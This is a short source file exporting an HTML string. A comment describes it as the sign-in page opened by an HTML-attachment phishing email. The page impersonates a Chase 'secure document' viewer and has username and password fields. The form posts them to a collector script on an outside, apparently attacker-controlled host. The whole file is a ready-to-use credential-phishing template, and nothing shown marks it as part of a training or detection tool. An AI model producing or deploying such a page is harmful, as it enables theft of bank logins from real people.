/** The sign-in page an HTML attachment phish opens: a local form posting to the collector. */
export const LOGIN_PAGE = `<!doctype html><html><head><title>Secure Message</title></head><body>
<h1>Chase secure document</h1><p>Sign in to view your statement.</p>
<form method="post" action="https://statement-viewer.example-docs.top/collect.php">
<input name="user"><input type="password" name="pass"><button>View</button></form></body></html>`;
